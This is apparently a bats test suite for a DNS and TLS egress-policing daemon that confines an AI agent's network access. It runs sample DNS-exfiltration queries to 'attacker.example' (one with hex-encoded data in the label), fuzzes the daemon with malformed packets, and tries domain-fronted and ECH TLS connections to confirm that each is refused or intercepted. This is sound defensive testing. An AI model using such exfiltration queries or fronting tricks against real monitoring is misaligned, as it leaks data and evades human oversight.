#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# The policy DNS: queries sent from the agent's cgroup, UDP and TCP, v4 and
# v6, to port 53 of the fake resolver, which the capture (the BPF hooks or
# the nft ruleset) sends to the listener. The fake upstream resolver runs in
# the server namespace at 198.51.100.1:53 and logs every query it receives,
# so "no query left the machine" is a check on its log.

load lib

# The fake resolver's log, and the records it serves (TTL 3600, above the
# cap of 30 the daemon must apply).
UP=
egd_setup_dns() {
	skip_unless_capable
	command -v dig >/dev/null || skip "dig not installed (bind9-dnsutils)"
	egd_setup_net
	egd_setup_cgroups
	UP=$T/upstream-dns.jsonl
	in_srv python3 "$FIX/dns_server.py" --listen $SRV4 --listen "$SRV6" --log "$UP" \
		--ready "$T/dns.ready" --ttl 3600 \
		--record openrouter.ai:A:$SRV4 --record openrouter.ai:AAAA:$SRV6 \
		--record openrouter.ai:HTTPS:ech-config --record openrouter.ai:TXT:secret \
		--record pypi.org:A:198.51.100.8 --record pypi.org:AAAA:2001:db8::8 \
		--record pypi.org:TXT:pypi-txt \
		--record files.pythonhosted.org:A:198.51.100.9 \
		--record other.example:A:198.51.100.20 --record other.example:TXT:other-txt \
		--record other.example:HTTPS:other-ech --record alias.example:CNAME:openrouter.ai \
		$(for i in 1 2 3 4 5; do printf -- '--record big.example:TXT:%0200d ' $i; done) \
		>"$T/dns.out" 2>&1 3>&- &
	SERVERS_PID=$!
	wait_for 10 test -e "$T/dns.ready"
	# A TLS server where openrouter.ai resolves, for the intercept-address
	# tests: what reaches it was tunnelled, not policed.
	egd_cert
	in_srv python3 "$FIX/servers.py" --cert "$T/cert.pem" --key "$T/key.pem" \
		--log "$T/server.log" --ready "$T/servers.ready" --tls $SRV4:443 \
		>"$T/servers.out" 2>&1 3>&- &
	TLS_PID=$!
	wait_for 10 test -e "$T/servers.ready"
	[ "$MODE" = nft ] || egd_attach
	dns_daemon "$@"
}

# dns_daemon [flags...]: (re)start the daemon with the policy DNS's flags.
dns_daemon() {
	egd_start_daemon --mode "$MODE" --resolvers $SRV4 \
		--agent-allow "pypi.org,*.pythonhosted.org" "$@"
	# A refused name: answered without touching the resolver or the cache.
	wait_for 10 exempt dig +time=1 +tries=1 @127.0.0.1 -p 15053 ready.invalid
	: >"$UP"
}

setup() { egd_setup_dns; }
teardown() {
	[ -n "${TLS_PID:-}" ] && kill "$TLS_PID" 2>/dev/null
	egd_teardown
}

# Where the agent asks: both capture modes send every DNS packet, to any
# address, to the policy DNS (the ruleset, or the BPF connect and sendmsg
# hooks, which also give the reply the address asked), so the agent asks
# the fake resolver's own address, which its packets never reach.
DNS4=$SRV4 DNS6=$SRV6 DPORT=53

# ask [dig options...]: dig from the agent's cgroup
ask() {
	agent dig +time=2 +tries=1 -p $DPORT "$@"
}

upstream_saw() { # upstream_saw QNAME QTYPE
	grep -q "\"qname\": \"$1\", \"qtype\": \"$2\"" "$UP"
}

@test "agent phase: an arbitrary name is REFUSED over UDP and TCP, and no query leaves" {
	run ask @$DNS4 exfil-6c65616b.attacker.example A
	[ "$status" -eq 0 ]
	[[ "$output" == *"status: REFUSED"* ]]
	run ask @$DNS4 +tcp another-secret.attacker.example TXT
	[[ "$output" == *"status: REFUSED"* ]]
	run ask @$DNS6 +tcp v6-secret.attacker.example AAAA
	[[ "$output" == *"status: REFUSED"* ]]
	run ask @$DNS6 v6-udp.attacker.example A
	[[ "$output" == *"status: REFUSED"* ]]
	sleep 0.3
	[ ! -s "$UP" ]
}

@test "agent phase: the intercept host gets the daemon's A and AAAA, TTL capped at 30" {
	run ask @$DNS4 openrouter.ai A +noall +answer
	[ "$status" -eq 0 ]
	[[ "$output" == *"$SRV4"* ]]
	ttl=$(awk '$4 == "A" { print $2 }' <<<"$output")
	[ -n "$ttl" ] && [ "$ttl" -le 30 ]
	run ask @$DNS6 +tcp openrouter.ai AAAA +noall +answer
	[[ "$output" == *"$SRV6"* ]]
	# The daemon asked the resolver itself, once per type.
	upstream_saw openrouter.ai A
	upstream_saw openrouter.ai AAAA
}

@test "agent phase: allowlisted names answered, exact and *.suffix, any case, trailing dot" {
	run ask @$DNS4 PyPi.ORG. A +noall +answer
	[[ "$output" == *"198.51.100.8"* ]]
	run ask @$DNS4 +tcp files.pythonhosted.org A +noall +answer
	[[ "$output" == *"198.51.100.9"* ]]
	# The apex of a wildcard is not on the list.
	run ask @$DNS4 pythonhosted.org A
	[[ "$output" == *"status: REFUSED"* ]]
}

@test "HTTPS, SVCB, TXT and ANY for an allowed name are NODATA, asked of nobody" {
	for t in HTTPS SVCB TXT ANY; do
		run ask @$DNS4 openrouter.ai $t
		[[ "$output" == *"status: NOERROR"* ]]
		[[ "$output" == *"ANSWER: 0"* ]]
	done
	run ask @$DNS4 +tcp pypi.org TXT
	[[ "$output" == *"status: NOERROR"* && "$output" == *"ANSWER: 0"* ]]
	sleep 0.3
	! grep -q '"qtype": "\(HTTPS\|SVCB\|TXT\|ANY\)"' "$UP"
}

@test "verification phase: other names are forwarded and relayed, ECS and cookies stripped" {
	flip_to_verification
	run ask @$DNS4 other.example TXT +subnet=203.0.113.0/24 +cookie
	[[ "$output" == *"other-txt"* ]]
	# The daemon's answer carries no cookie and no client subnet.
	[[ "$output" != *"COOKIE:"* ]]
	[[ "$output" != *"CLIENT-SUBNET"* ]]
	# The TTL is capped on relayed answers too.
	ttl=$(agent dig +time=2 +tries=1 -p $DPORT @$DNS4 +tcp other.example A +noall +answer |
		awk '$4 == "A" { print $2 }')
	[ -n "$ttl" ] && [ "$ttl" -le 30 ]
	upstream_saw other.example TXT
	# What reached the resolver had neither option.
	! grep '"qname": "other.example"' "$UP" | grep -q '"options": \[[^]]'
	# Another name's HTTPS record is passed on in this phase...
	run ask @$DNS4 other.example HTTPS
	[[ "$output" == *"ANSWER: 1"* ]]
	# ...the intercept host's never is.
	run ask @$DNS4 openrouter.ai HTTPS
	[[ "$output" == *"ANSWER: 0"* ]]
	run ask @$DNS4 +tcp openrouter.ai SVCB
	[[ "$output" == *"ANSWER: 0"* ]]
	! upstream_saw openrouter.ai HTTPS
	! upstream_saw openrouter.ai SVCB
}

@test "verification phase: an unknown name gets the resolver's NXDOMAIN" {
	flip_to_verification
	run ask @$DNS4 nope.example A
	[[ "$output" == *"status: NXDOMAIN"* ]]
	upstream_saw nope.example A
}

@test "malformed, truncated, looping and multi-question messages never crash the daemon" {
	agent python3 - "$DNS4" "$DPORT" <<'PY'
import socket, struct, sys
H, P = sys.argv[1], int(sys.argv[2])
def q(name=b"\x07example\x03com\x00", qd=1, extra=b""):
    return struct.pack("!6H", 0x1234, 0x0100, qd, 0, 0, 0) + name + b"\x00\x01\x00\x01" + extra
cases = [
    b"", b"\x12", b"\x12\x34\x01\x00\x00\x01",                  # shorter than a header
    q()[:-3],                                                   # truncated question
    struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\x00\x01\x00\x01",  # self pointer
    struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + b"\x01a\xc0\x0c\x00\x01\x00\x01",  # loop
    q(qd=2) + b"\x01b\x00\x00\x01\x00\x01",                      # two questions
    q(name=b"\x40" + b"a" * 64 + b"\x00"),                      # label too long
    q(name=b"\x3f" + b"a" * 63 + b"\x3f" + b"b" * 63 + b"\x3f" + b"c" * 63 + b"\x3f" + b"d" * 63 + b"\x00"),
    q() + b"trailing",
    bytes(range(256)) * 4,
    b"\xff" * 65000,
]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for c in cases:
    try:
        s.sendto(c, (H, P))
    except OSError:
        pass
s.settimeout(0.5)
got = 0
try:
    while True:
        d = s.recv(65535)
        assert d[3] & 0x0f in (1, 4, 5), d[:4]   # FORMERR (or NOTIMP/REFUSED), never an answer
        got += 1
except socket.timeout:
    pass
assert got >= 5, got
# Over TCP: garbage frames, then a zero-length frame closes the connection.
t = socket.create_connection((H, P))
for c in cases[3:8]:
    t.sendall(struct.pack("!H", len(c)) + c)
t.sendall(b"\x00\x00")
t.settimeout(2)
while t.recv(65535):
    pass
PY
	run ask @$DNS4 openrouter.ai A +short
	[[ "$output" == *"$SRV4"* ]]
	kill -0 "$DAEMON_PID"
	[ "$(metric 'egressd_dns_queries_total{verdict="malformed"}')" -ge 5 ]
}

@test "TCP: several queries on one connection, answered in any order with their IDs" {
	agent python3 - "$DNS4" "$DPORT" <<'PY'
import socket, struct, sys
H, P = sys.argv[1], int(sys.argv[2])
def q(qid, name, qtype):
    wire = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\x00"
    return struct.pack("!6H", qid, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!HH", qtype, 1)
t = socket.create_connection((H, P))
msgs = [q(1, "openrouter.ai", 1), q(2, "evil.example", 1), q(3, "pypi.org", 28)]
t.sendall(b"".join(struct.pack("!H", len(m)) + m for m in msgs))
t.settimeout(5)
buf, seen = b"", {}
while len(seen) < 3:
    buf += t.recv(65535)
    while len(buf) >= 2 and len(buf) >= 2 + struct.unpack("!H", buf[:2])[0]:
        n = struct.unpack("!H", buf[:2])[0]
        m, buf = buf[2:2 + n], buf[2 + n:]
        seen[struct.unpack("!H", m[:2])[0]] = m[3] & 0x0f
assert seen == {1: 0, 2: 5, 3: 0}, seen
PY
}

@test "UDP answers larger than the client's size are truncated (TC), TCP gets them whole" {
	flip_to_verification
	# Five TXT records of 200 bytes: over 512 (no EDNS), under 1232.
	run ask @$DNS4 big.example TXT +noedns +ignore
	[[ "$output" == *"flags: qr tc"* ]]
	[[ "$output" == *"ANSWER: 0"* ]]
	run ask @$DNS4 big.example TXT +noedns
	[[ "$output" == *"ANSWER: 5"* ]]
	run ask @$DNS4 big.example TXT +bufsize=1232
	[[ "$output" == *"ANSWER: 5"* && "$output" != *"flags: qr tc"* ]]
}

@test "one audit line per query, and metrics by verdict" {
	ask @$DNS4 leak.attacker.example A >/dev/null
	ask @$DNS4 +tcp openrouter.ai HTTPS >/dev/null
	ask @$DNS4 openrouter.ai A >/dev/null
	sleep 0.2
	audit_has event=dns phase=agent qname=leak.attacker.example qtype=A verdict=refuse \
		rcode=REFUSED proto=udp
	audit_has event=dns qname=openrouter.ai qtype=HTTPS verdict=nodata rcode=NOERROR proto=tcp
	audit_has event=dns qname=openrouter.ai qtype=A verdict=resolve rcode=NOERROR
	[ "$(metric 'egressd_dns_queries_total{verdict="refuse"}')" -ge 1 ]
	[ "$(metric 'egressd_dns_responses_total{rcode="REFUSED"}')" -ge 1 ]
	[ -n "$(metric 'egressd_dns_upstream_failures_total')" ]
}

@test "the resolver down: allowed names get SERVFAIL, counted as upstream failures" {
	kill "$SERVERS_PID"
	wait "$SERVERS_PID" 2>/dev/null || true
	run ask @$DNS4 pypi.org AAAA +time=8
	[[ "$output" == *"status: SERVFAIL"* ]]
	[ "$(metric 'egressd_dns_upstream_failures_total')" -ge 1 ]
}

# --- decisions that rest on the policy DNS -------------------------------------

# The last `run` was answered by the policy proxy (a JSON error: no key is
# configured, or Host differs from SNI), not by the server behind it.
policed() {
	[[ "$output" == *'{"detail":'* && "$output" != *hello-tls* ]]
}

# tls_get SNI [Host]: an HTTPS GET to $SRV4:443 from the agent, SNI and Host
# as given; prints the status line or body, or "failed".
tls_get() {
	agent python3 - "$SRV4" "$1" "${2:-$1}" <<'PY'
import socket, ssl, sys
addr, sni, host = sys.argv[1:4]
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    s = ctx.wrap_socket(socket.create_connection((addr, 443), 5), server_hostname=sni or None)
    s.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
    data = b""
    while True:
        d = s.recv(65536)
        if not d:
            break
        data += d
    print(data.decode("latin-1"))
except Exception as e:
    print("failed:", e)
PY
}

@test "verification phase: an address the DNS gave for openrouter.ai is policed whatever the SNI" {
	flip_to_verification
	# Before the agent asked: a fronting SNI to that address is tunnelled
	# (the control: the same request can reach the server).
	run tls_get cdn.example openrouter.ai
	[[ "$output" == *"hello-tls sni=cdn.example"* ]]
	: >"$T/server.log"
	run ask @$DNS4 openrouter.ai A +short
	[[ "$output" == *"$SRV4"* ]]
	# Now the policy proxy answers, and the server sees nothing.
	run tls_get cdn.example openrouter.ai
	policed
	run tls_get "" openrouter.ai
	policed
	run agent curl -s -m 5 -H "Host: openrouter.ai" "http://$SRV4:443/"
	policed
	sleep 0.2
	! grep -q '"kind": "tls"' "$T/server.log"
	audit_has event=decision phase=verification host=cdn.example verdict=intercept \
		reason=intercept-addr
	[ "$(metric egressd_dns_intercept_addresses)" -ge 1 ]
}

@test "BPF mode: UDP (QUIC) to an address the DNS gave for openrouter.ai is refused in the kernel" {
	bpf_only "nft.bats covers the ruleset's intercept-address set"
	flip_to_verification
	# The control: before the agent asked, UDP to that address leaves.
	run agent python3 "$FIX/client.py" udp $SRV4 443
	[ "$output" = sent-no-reply ]
	run ask @$DNS4 openrouter.ai A +short
	[[ "$output" == *"$SRV4"* ]]
	run ask @$DNS6 openrouter.ai AAAA +short
	[[ "$output" == *"$SRV6"* ]]
	# The policy DNS put both addresses in the kernel's map.
	for dst in $SRV4 ::ffff:$SRV4 $SRV6; do
		run agent python3 "$FIX/client.py" udp $dst 443
		echo "$dst: $output"
		[ "$output" = EPERM ]
		run agent python3 "$FIX/client.py" udp-connected $dst 443
		[ "$output" = EPERM ]
	done
	"$EGRESSD" status --pin "$PIN" | awk '$1 == "udp_intercept_refused" { exit !($2 >= 6) }'
}

@test "verification phase: openrouter.ai's address under another name (CNAME) is policed too" {
	flip_to_verification
	run ask @$DNS4 alias.example A +noall +answer
	[[ "$output" == *"CNAME"*"openrouter.ai."* && "$output" == *"$SRV4"* ]]
	# Only the forwarded query reached the resolver: the daemon did not
	# resolve openrouter.ai itself, so the address came from the relay.
	! upstream_saw openrouter.ai A
	run tls_get cdn.example openrouter.ai
	policed
	sleep 0.2
	! grep -q '"kind": "tls"' "$T/server.log"
	audit_has event=decision host=cdn.example verdict=intercept reason=intercept-addr
}

@test "EGRESSD_INTERCEPT_CIDRS: TCP into them is policed without any DNS answer" {
	kill "$DAEMON_PID"
	wait "$DAEMON_PID" 2>/dev/null || true
	dns_daemon --intercept-cidrs "198.51.100.0/28,2001:db8::/64"
	flip_to_verification
	run tls_get cdn.example
	policed
	sleep 0.2
	! grep -q '"kind": "tls"' "$T/server.log"
	audit_has event=decision host=cdn.example verdict=intercept reason=intercept-addr
}

# A ClientHello with SNI cdn.example and an encrypted_client_hello
# extension (0xfe0d, outer variant with a junk payload): the sniffer sees
# the extension; the daemon must answer access_denied in both phases.
ech_hello() {
	agent python3 - "$SRV4" <<'PY'
import os, socket, struct, sys
def ext(t, body):
    return struct.pack("!HH", t, len(body)) + body
sni = b"cdn.example"
exts = ext(0, struct.pack("!HBH", len(sni) + 3, 0, len(sni)) + sni)
exts += ext(10, b"\x00\x02\x00\x1d") + ext(13, b"\x00\x02\x04\x03")
exts += ext(43, b"\x02\x03\x04") + ext(51, b"\x00\x24\x00\x1d\x00\x20" + os.urandom(32))
exts += ext(0xfe0d, b"\x00\x00\x01\x00\x01\x07\x00\x20" + os.urandom(32) + b"\x00\x10" + os.urandom(16))
body = b"\x03\x03" + os.urandom(32) + b"\x20" + os.urandom(32) + b"\x00\x02\x13\x01\x01\x00"
body += struct.pack("!H", len(exts)) + exts
hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
rec = b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs
s = socket.create_connection((sys.argv[1], 443), 5)
s.sendall(rec)
s.settimeout(5)
try:
    print(s.recv(100).hex())
except Exception as e:
    print("failed:", e)
PY
}

@test "ECH hellos are refused in both phases, with an audit reason" {
	run ech_hello
	[ "$output" = "15030300020231" ]
	flip_to_verification
	run ech_hello
	[ "$output" = "15030300020231" ]
	sleep 0.2
	! grep -q '"kind": "tls"' "$T/server.log"
	audit_has event=decision phase=verification host=cdn.example verdict=deny reason=ech
	audit_has event=decision phase=agent verdict=deny reason=ech
}
